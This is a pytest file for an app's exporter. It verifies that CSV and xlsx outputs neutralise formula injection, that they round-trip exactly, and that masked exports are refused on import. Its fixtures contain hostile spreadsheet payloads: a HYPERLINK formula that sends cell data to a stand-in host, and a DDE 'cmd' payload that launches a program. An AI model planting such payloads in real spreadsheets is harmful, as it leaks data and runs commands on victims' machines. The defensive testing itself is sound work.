"""Formula injection (#15.5) and masked exports (#15.6): every CSV/xlsx the app writes is
inert in Excel, an export imports back exactly, and a masked export never overwrites names."""

from __future__ import annotations

import csv
import io
import zipfile

import pandas as pd
import pytest
from make_bad_files import build_tiny_store
from openpyxl import load_workbook
from test_coverage import build_tiny_store as build_coverage_store
from test_siting import scenario_at_c

from geo import audit, cells, grid_report
from geo import scenarios as sc
from geo.exporter import export_bytes, export_store
from geo.importer import import_files, template_xlsx

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "name": '=HYPERLINK("http://x.example/?"&A1,"点我")',
    "phone": "+cmd|' /C calc'!A0",
    "work_unit": "@SUM(1+1)",
    "post": "-2+3",
    "duty": "\t=1+1",
}
HOSTILE_COMPOUND = "=cmd|' /C calc'!A0"


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_csv_inert(data: bytes) -> int:
    """Every cell that starts like a formula is a plain number; returns cells checked."""
    text = data.decode("utf-8-sig")
    count = 0
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            count += 1
            assert not cell.startswith(FORMULA_STARTS) or is_number(cell), cell
    return count


def assert_xlsx_inert(data: bytes) -> int:
    book = load_workbook(io.BytesIO(data))  # formulas kept as written
    count = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                count += 1
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS), cell.value
    return count


@pytest.fixture
def hostile_store(tmp_path):
    store = build_tiny_store(tmp_path / "hostile.gpkg")
    members = store.load("members")
    for column, value in HOSTILE.items():
        members.loc[members["id"] == "M1", column] = value
    compounds = store.load("compounds")
    compounds["name"] = HOSTILE_COMPOUND
    with store.transaction() as tx:
        tx.replace("members", members)
        tx.replace("compounds", compounds)
    return store


def test_escape_is_owasp_and_reversible():
    for value in [*HOSTILE.values(), "\r=1", "@x", "普通名字", "", "'=already"]:
        escaped = cells.escape_cell(value)
        assert not escaped.startswith(FORMULA_STARTS)
        assert cells.unescape_cell(escaped) == value
    assert cells.escape_cell(-5) == -5 and cells.escape_cell(-2.5) == -2.5  # numbers untouched
    assert cells.escape_cell("=1") == "'=1"


@pytest.mark.parametrize("masked", [True, False])
def test_store_exports_are_inert(hostile_store, masked):
    for fmt in ("csv", "xlsx"):
        data, name = export_bytes(hostile_store, fmt, can_see_personal=not masked)
        assert ("_unmasked_" in name) != masked and ("_masked_" in name) == masked
        if fmt == "csv":
            with zipfile.ZipFile(io.BytesIO(data)) as archive:
                checked = sum(assert_csv_inert(archive.read(n)) for n in archive.namelist())
                members = archive.read("members.csv").decode("utf-8-sig")
            assert "'@SUM(1+1)" in members and "'-2+3" in members  # kept, as text
        else:
            checked = assert_xlsx_inert(data)
        assert checked > 50


def test_cli_export_files_are_inert(hostile_store, tmp_path):
    out = export_store(hostile_store, "csv", tmp_path / "out", can_see_personal=True)
    for file in out.iterdir():
        assert_csv_inert(file.read_bytes())
    assert_xlsx_inert(export_store(hostile_store, "xlsx", tmp_path / "o.xlsx").read_bytes())


def test_roster_planner_audit_and_templates_are_inert(hostile_store, tmp_path):
    members = hostile_store.load("members").assign(volunteer_team_id=None)
    roster = grid_report.roster_frame(members, hostile_store.load("grids"), pd.DataFrame(),
                                      can_see_personal=True)
    assert roster["name"].str.startswith("=").any()
    assert_xlsx_inert(grid_report.roster_excel(roster, lambda key: "=" + key))

    store = build_coverage_store(tmp_path / "c.gpkg")
    compounds, positions = store.load("compounds"), store.load("service_positions")
    scenario = scenario_at_c(compounds, name="=HYPERLINK(1)")
    scenario.candidates[0]["name"] = "@evil"
    data = sc.to_excel(scenario, sc.evaluate(scenario, compounds, positions),
                       headers={"scenario": "-方案"})
    assert_xlsx_inert(data)

    rows = pd.DataFrame([audit.audit_row("=evil()", "members.move", "members", "+M1",
                                         after={"name": "=x"})])
    assert assert_csv_inert(audit.to_csv_bytes(rows)) and assert_xlsx_inert(
        audit.to_xlsx_bytes(rows))
    assert_xlsx_inert(template_xlsx("members"))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_unmasked_export_imports_back_exactly(hostile_store, tmp_path, fmt):
    before = hostile_store.load("members").drop(columns="version")
    data, name = export_bytes(hostile_store, fmt, layers=["members"], can_see_personal=True)
    path = tmp_path / name
    path.write_bytes(data)
    plan, log_id = import_files(hostile_store, [path])
    assert plan.ok, [p.describe() for p in plan.problems]
    # every escaped cell reads back as stored: each row unchanged, nothing written
    assert log_id is None and plan.counts["members"]["unchanged"] == len(before)
    assert pd.testing.assert_frame_equal(
        plan.frames["members"].set_index("id").loc[before["id"], ["name", "duty"]].reset_index(
            drop=True), before[["name", "duty"]], check_dtype=False) is None
    after = hostile_store.load("members").drop(columns="version")
    pd.testing.assert_frame_equal(before, after)
    assert after.loc[after["id"] == "M1", "name"].item() == HOSTILE["name"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "gpkg"])
def test_masked_export_cannot_overwrite_real_names(hostile_store, tmp_path, fmt):
    before = hostile_store.checksum()
    data, name = export_bytes(hostile_store, fmt, layers=["members"], can_see_personal=False)
    path = tmp_path / name
    path.write_bytes(data)
    plan, log_id = import_files(hostile_store, [path])
    assert log_id is None and hostile_store.checksum() == before
    codes = {p.code for p in plan.problems}
    assert codes & {"masked_export", "masked_value"}, [p.describe() for p in plan.problems]
    if fmt in ("xlsx", "gpkg"):
        assert "masked_export" in codes  # the file itself says so


def test_masked_values_in_an_update_are_refused(hostile_store, tmp_path):
    path = tmp_path / "members.csv"
    path.write_text("编号,姓名,电话,性别,网格编号,小区编号,工作单位,岗位,职责,报到日期,入党日期,"
                    "经度,纬度\nM2,李*,139****1111,女,G2,X1,区财政局,宣传员,政策宣传,2021-10-01,"
                    "2005-07-01,121.272,28.652\n", encoding="utf-8")
    plan, log_id = import_files(hostile_store, [path])
    assert log_id is None
    hits = [(p.code, p.field, p.row) for p in plan.problems]
    assert ("masked_value", "name", 2) in hits and ("masked_value", "phone", 2) in hits
    assert any("脱敏" in p.message_zh and "masked" in p.message_en for p in plan.problems)
